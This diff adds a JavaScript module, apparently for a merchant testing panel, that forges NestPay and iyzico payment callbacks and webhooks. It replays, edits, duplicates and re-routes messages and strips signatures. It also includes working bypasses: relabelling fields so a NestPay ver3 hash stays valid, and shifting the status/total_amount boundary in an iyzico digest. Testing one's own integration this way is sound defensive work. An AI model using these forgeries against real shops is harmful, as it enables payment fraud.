@@ -1,0 +1,144 @@
+// What a dishonest customer can do to a genuine message: repeat it, edit it, relabel it, send it elsewhere. Nothing here knows a secret.
+import { parseForm } from './form.js';
+import { signedFields, upperAscii } from './nestpay-hash.js';
+
+/** @typedef {import('./courier.js').Message} Message */
+/** @typedef {{ url: string, headers: Record<string, string>, body: string }} Sent */
+
+const isForm = (message) => message.headers['content-type'] === 'application/x-www-form-urlencoded';
+const isWebhook = (message) => message.kind === 'webhook';
+const isCallback = (message) => message.system === 'nestpay';
+
+/** In the order of the panel. `fits` tells for which messages an attack makes sense. */
+export const ATTACKS = [
+  { name: 'replay', tr: 'Aynen yinele', en: 'Replay unchanged', fits: () => true },
+  { name: 'edit', tr: 'Bir alanı değiştir', en: 'Change a field', fits: () => true, needs: ['field', 'value'] },
+  {
+    name: 'relabel', tr: 'Alanları yeniden adlandır (imza geçerli kalır)', en: 'Relabel the fields (the digest stays valid)',
+    fits: (message) => isCallback(message) && !message.body.includes('HASHPARAMS'),
+  },
+  { name: 'drop-signature', tr: 'İmzayı çıkar', en: 'Drop the signature', fits: (message) => message.system !== 'iyzico' || isWebhook(message) },
+  { name: 'empty-signature', tr: 'İmzayı boşalt', en: 'Empty the signature', fits: (message) => message.system !== 'iyzico' || isWebhook(message) },
+  { name: 'duplicate', tr: 'Bir alanı iki kez gönder', en: 'Send a field twice', fits: () => true, needs: ['field', 'value'] },
+  { name: 'elsewhere', tr: 'Başka bir siparişin adresine gönder', en: 'Send to the address of another order', fits: () => true, needs: ['url'] },
+  {
+    name: 'resplit', tr: 'status ile total_amount sınırını kaydır (imza geçerli kalır)', en: 'Move the border of status and total_amount (the digest stays valid)',
+    fits: (message) => message.kind === 'notification',
+  },
+  { name: 'old-header', tr: 'Eski imza başlığıyla gönder (X-Iyz-Signature)', en: 'Send under the old signature header (X-Iyz-Signature)', fits: isWebhook },
+];
+
+/**
+ * @param {Message} message
+ * @param {{ attack: string, field?: string, value?: string, url?: string }} order
+ * @returns {Sent & { note: string }}
+ */
+export function forge(message, { attack, field = '', value = '', url = '' }) {
+  const chosen = ATTACKS.find(({ name }) => name === attack);
+  if (!chosen?.fits(message)) throw new Error('this attack does not fit this message');
+  const { headers, body } = message;
+  const same = { url: message.url, headers, body, note: '' };
+  switch (attack) {
+    case 'replay': return same;
+    case 'edit': return { ...same, body: edited(message, field, value) };
+    case 'relabel': return { ...same, ...relabelled(body) };
+    case 'drop-signature': return isWebhook(message) ? { ...same, headers: without(headers, SIGNATURE_HEADER) } : { ...same, body: dropped(body, 'HASH') };
+    case 'empty-signature': return isWebhook(message) ? { ...same, headers: { ...headers, [SIGNATURE_HEADER]: '' } } : { ...same, body: changed(body, 'HASH', '') };
+    case 'duplicate': return { ...same, body: doubled(message, field, value) };
+    case 'elsewhere': return { ...same, url };
+    case 'resplit': return { ...same, body: resplit(body) };
+    default: return { ...same, headers: { ...without(headers, SIGNATURE_HEADER), 'x-iyz-signature': headers[SIGNATURE_HEADER] ?? '' } };
+  }
+}
+
+const SIGNATURE_HEADER = 'x-iyz-signature-v3';
+const without = (headers, name) => Object.fromEntries(Object.entries(headers).filter(([each]) => each !== name));
+
+// ---- forms, changed as text, so that everything else stays byte for byte
+
+const isNamed = (part, name) => upperAscii(decodeURIComponent(part.split('=')[0])) === upperAscii(name);
+const joined = (name, value) => `${encodeURIComponent(name)}=${encodeURIComponent(value)}`;
+
+const changed = (body, name, value) => body.split('&').map((part) => (isNamed(part, name) ? `${part.split('=')[0]}=${encodeURIComponent(value)}` : part)).join('&');
+const dropped = (body, name) => body.split('&').filter((part) => !isNamed(part, name)).join('&');
+const valueIn = (body, name) => decodeURIComponent(body.split('&').find((part) => isNamed(part, name))?.split('=')[1] ?? '');
+
+function edited(message, field, value) {
+  if (!isForm(message)) return message.body.replace(member(field), (_, start, old) => start + jsonValue(old, value));
+  const has = message.body.split('&').some((part) => isNamed(part, field));
+  return has ? changed(message.body, field, value) : `${message.body}&${joined(field, value)}`;
+}
+
+function doubled(message, field, value) {
+  return isForm(message) ? `${message.body}&${joined(field, value)}` : message.body.replace(/^\{/, `{${JSON.stringify(field)}:${JSON.stringify(value)},`);
+}
+
+/** 'success' + '1050' and 'success1' + '050' are the same text once they are joined. */
+function resplit(body) {
+  const [status, total] = [valueIn(body, 'status'), valueIn(body, 'total_amount')];
+  return changed(changed(body, 'status', status + total.slice(0, 1)), 'total_amount', total.slice(1));
+}
+
+// ---- flat JSON
+
+const member = (name) => new RegExp(`("${name.replace(/\W/g, '\\$&')}"\\s*:\\s*)("(?:[^"\\\\]|\\\\.)*"|[^,}]+)`);
+const jsonValue = (old, value) => (/^\d/.test(old) && /^\d+$/.test(value) ? value : JSON.stringify(value));
+
+// ---- relabelling: ver3 signs the ordered values and not their names
+
+const DECISIONS = { mdStatus: '1', ProcReturnCode: '00', Response: 'Approved' };
+const IDENTITY = ['clientid', 'oid', 'amount', 'currency'];
+const OTHER_ANCHORS = ['failUrl', 'hashAlgorithm', 'lang', 'okUrl', 'storetype', 'taksit', 'TranType', 'islemtipi'];
+
+/**
+ * The same values under other names, in the same order: as many as possible of the names that a shop looks at keep what it expects, and the
+ * decision fields get what they need, if the message contains it at all.
+ * @param {string} body
+ * @returns {{ body: string, note: string }}
+ */
+export function relabelled(body) {
+  const fields = parseForm(Buffer.from(body, 'latin1'));
+  const signed = signedFields(fields);
+  const value = (name) => fields.find(([each]) => each === name)?.[1];
+  const pays = value('storetype')?.toLowerCase().startsWith('3d_pay');
+  const wanted = [
+    ...Object.entries(DECISIONS).filter(([name]) => pays || name === 'mdStatus').map(([name, text]) => ({ name, text, weight: 1000 })),
+    ...IDENTITY.map((name) => ({ name, text: value(name), weight: 50 })),
+    ...OTHER_ANCHORS.map((name) => ({ name, text: value(name), weight: 1 })),
+  ].filter(({ text }) => text !== undefined).sort((a, b) => (upperAscii(a.name) < upperAscii(b.name) ? -1 : 1));
+  const kept = heaviestMatch(signed.map(([, text]) => text), wanted);
+  const named = nameThem(signed, kept);
+  const unsigned = fields.filter((field) => !signed.includes(field));
+  const missing = wanted.filter((each) => !kept.includes(each)).map(({ name }) => name);
+  return {
+    body: [...named, ...unsigned].map(([name, text]) => joined(name, text)).join('&'),
+    note: missing.length === 0 ? 'every field a shop looks at has the wanted value' : `could not be kept or made: ${missing.join(', ')}`,
+  };
+}
+
+/** The heaviest common subsequence of the values and the wanted fields; result[i] is what value i shall be called, or undefined. */
+function heaviestMatch(values, wanted) {
+  const best = Array.from({ length: values.length + 1 }, () => new Array(wanted.length + 1).fill(0));
+  for (let i = values.length - 1; i >= 0; i -= 1) {
+    for (let j = wanted.length - 1; j >= 0; j -= 1) {
+      const take = values[i] === wanted[j].text ? best[i + 1][j + 1] + wanted[j].weight : 0;
+      best[i][j] = Math.max(best[i + 1][j], best[i][j + 1], take);
+    }
+  }
+  const result = new Array(values.length);
+  for (let i = 0, j = 0; i < values.length && j < wanted.length;) {
+    if (values[i] === wanted[j].text && best[i][j] === best[i + 1][j + 1] + wanted[j].weight) result[i++] = wanted[j++];
+    else if (best[i][j] === best[i + 1][j]) i += 1;
+    else j += 1;
+  }
+  return result;
+}
+
+/** Everything else gets a name that sorts right after the name before it. */
+function nameThem(signed, kept) {
+  let [before, count] = ['A', 0];
+  return signed.map(([, text], i) => {
+    if (kept[i]) [before, count] = [kept[i].name, 0];
+    return [kept[i] ? kept[i].name : `${before}-${String((count += 1)).padStart(3, '0')}`, text];
+  });
+}
